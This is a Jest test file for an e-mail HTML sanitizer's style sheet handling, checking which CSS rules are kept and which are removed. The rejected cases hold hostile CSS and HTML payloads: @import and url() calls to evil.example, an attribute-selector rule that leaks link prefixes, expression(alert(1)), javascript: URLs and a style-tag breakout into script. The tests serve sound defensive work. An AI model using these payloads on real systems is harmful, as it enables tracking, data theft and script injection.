import { describe, expect, test } from '@jest/globals';
import { removedMarkup, sanitizeMarkup } from '../../src/platform/content/html.ts';
import { textOfMarkup } from '../../src/platform/content/text-part.ts';

// Style sheets of e-mails as public reports about other products have them; test/field/README.md.

const clean = (html: string) => sanitizeMarkup(html, { liquid: true, styleSheets: true });
const removed = (html: string) =>
  removedMarkup(html, { styleSheets: true }).map(({ kind, name }) => `${kind} ${name}`);
const sheet = (css: string) => `<style>${css}</style>`;
/** A style sheet as it stays, without breaks of lines. */
const kept = (css: string) => clean(sheet(css)).replaceAll('\n', '');

describe('a style sheet', () => {
  test.each([
    [
      'SparkDevNetwork/Rock#6314, in2code-de/luxletter#108',
      '@media only screen and (max-width: 596px) { table.body img { width: auto; height: auto; } }',
      '@media only screen and (max-width: 596px){table.body img{width:auto;height:auto}}',
    ],
    [
      'hteumeuleu/email-bugs#44',
      '@media only screen and (max-device-width: 480px), only screen and (max-width: 480px) { .h1-center { color: #fff000 !important; } }',
      '@media only screen and (max-device-width: 480px), only screen and (max-width: 480px){.h1-center{color:#fff000 !important}}',
    ],
    [
      'g13nn/Email-Framework#22',
      '*[class="mobileOff"] { width: 0px !important; display: none !important; }',
      '*[class="mobileOff"]{width:0px !important;display:none !important}',
    ],
    [
      'adobe/aem-core-email-components#193, hackmdio/codimd#558',
      '@media (max-width: 639px) {.root > center > table { width: 100% !important; }}.root center table span {font-family: Arial;}',
      '@media (max-width: 639px){.root > center > table{width:100% !important}}.root center table span{font-family:Arial}',
    ],
    [
      'macro-inc/macro#1259, elie222/inbox-zero#3766',
      ':root { color-scheme: light dark } @media (prefers-color-scheme: dark) { .a, a:hover { color: #fff } }',
      ':root{color-scheme:light dark}@media (prefers-color-scheme: dark){.a,a:hover{color:#fff}}',
    ],
    ['andy128k/sanitize-html-rs#5', '<!-- .a { color: red } /* a comment */ -->', '.a{color:red}'],
    [
      'Mange/roadie-rails#23',
      '@media screen and (min-device-width: 600px) { .header { text-align: left !important } }',
      '@media screen and (min-device-width: 600px){.header{text-align:left !important}}',
    ],
    ['an empty rule', '.a { } .b { color: red }', '.b{color:red}'],
    ['a rule for the body', 'body, .body { margin: 0 auto }', 'body,.body{margin:0 auto}'],
    [
      'a picture',
      '.a { background: url(https://bank.example/a.png) }',
      '.a{background:url(https://bank.example/a.png)}',
    ],
    ['Liquid in a value', '.a { color: {{ data.color }} }', '.a{color:{{ data.color }}}'],
  ])('stays: %s', (_, css, stays) => {
    expect(kept(css)).toBe(`<style>${stays}</style>`);
    expect(removed(sheet(css))).toEqual([]);
    const once = clean(`${sheet(css)}<p>x</p>`);
    expect(clean(once)).toBe(once);
    expect(removed(once)).toEqual([]);
  });

  test.each([
    [
      'googlearchive/caja#487',
      "@import 'https://evil.example/xss.css'; a { color: red }",
      'a{color:red}',
      ["rule @import 'https://evil.example/xss.css'"],
    ],
    [
      'spiculedata/saiku#1944',
      '@\\69 mport url(https://evil.example); .a { color: red }',
      undefined,
      ['element style'],
    ],
    [
      'oblien/openship#222: a set of pictures, an escape and a variable',
      '.a { background: image-set("https://evil.example/a" 1x); color: red } .b { background: u\\72l(https://evil.example) } .c { --x: url(https://evil.example); background: var(--x) }',
      '.a{color:red}',
      ['style background', 'style --x'],
    ],
    [
      'cure53/DOMPurify#77, ProtonMail/WebClients#523',
      '@font-face { font-family: a; src: url(https://evil.example/a) } @keyframes b { from { color: red } }',
      undefined,
      ['rule @font-face', 'rule @keyframes b'],
    ],
    [
      'Mail-0/Zero#1813: an address by its letters',
      'a[href^="https://bank.example/a"] { background: url(https://evil.example/a) }',
      undefined,
      ['rule a[href^="https://bank.example/a"]'],
    ],
    [
      'OWASP/java-html-sanitizer#14',
      'div { width: expression(alert(1)); behavior: url(a.htc); background: url(javascript:alert(1)) }',
      undefined,
      ['style width', 'style behavior', 'style background'],
    ],
    [
      'FlowCrypt/flowcrypt-browser#6234',
      '.a { position: fixed; z-index: 9; color: red } .b::after { content: "x" }',
      '.a{color:red}',
      ['style position', 'style z-index', 'rule .b::after'],
    ],
    ['an id', '#outlook a { padding: 0 } .a { color: red }', '.a{color:red}', ['rule #outlook a']],
    [
      'a feature that nobody needs',
      '@media (width: 1px) { .a { color: red } } @media (scripting: none) { .a { color: red } } @supports (a: b) { .a { color: red } }',
      '@media (width: 1px){.a{color:red}}',
      ['rule @media (scripting: none)', 'rule @supports (a: b)'],
    ],
    [
      'rules within rules',
      '.a { .b { color: red } color: blue }',
      '.a{color:blue}',
      ['rule .b { color: red }'],
    ],
    ['no CSS', '.a { color: red', undefined, ['element style']],
    ['too much', '.a { color: red }'.repeat(400), undefined, ['element style']],
    ['too long', `.a { color: red } /* ${'x'.repeat(20_000)} */`, undefined, ['element style']],
  ])('does not stay: %s', (_, css, stays, names) => {
    expect(kept(css)).toBe(stays === undefined ? '' : `<style>${stays}</style>`);
    expect(removed(sheet(css))).toEqual(names);
  });

  test('with a medium is for that medium, and several are one', () => {
    const html =
      '<style media="(max-width: 500px)">.a{color:red}</style><style type="text/less">.x{color:red}</style>' +
      '<p>x</p><style>.b{color:red}</style><svg><style>.c{color:red}</style></svg>';
    expect(clean(html).replaceAll('\n', '')).toBe(
      '<style>@media (max-width: 500px){.a{color:red}}.b{color:red}</style><p>x</p>',
    );
  });

  test('has each part that does not stay once, with its count', () => {
    const css = '#a { color: red } .b { x: y; position: fixed }'.repeat(100);
    expect(removedMarkup(sheet(css), { styleSheets: true })).toEqual([
      { kind: 'rule', name: '#a', count: 100 },
      { kind: 'style', name: 'x', count: 100 },
      { kind: 'style', name: 'position', count: 100 },
    ]);
    const many = Array.from({ length: 200 }, (_, at) => `#a${String(at)} { color: red }`).join('');
    expect(removedMarkup(sheet(many), { styleSheets: true })).toHaveLength(50);
  });

  test('cannot end its element', () => {
    const html = '<style>.a{color:"</style><script>x()</script>"}</style><p>y</p>';
    expect(clean(html)).not.toMatch(/script|style/);
    expect(kept('.a{color:"<\\/style>"}')).toBe('');
  });

  test('has no place in the text part (premailer/premailer#201, p2pu/learning-circles#1192)', () => {
    expect(textOfMarkup(clean(`${sheet('.a{color:red}')}<p class="a">Hello</p>`))).toBe('Hello');
  });

  test('does not stay outside of e-mails', () => {
    const html = `${sheet('.a{color:red}')}<p>x</p>`;
    expect(sanitizeMarkup(html, { liquid: true })).toBe('<p>x</p>');
    expect(removedMarkup(html)).toEqual([{ kind: 'element', name: 'style', count: 1 }]);
  });
});
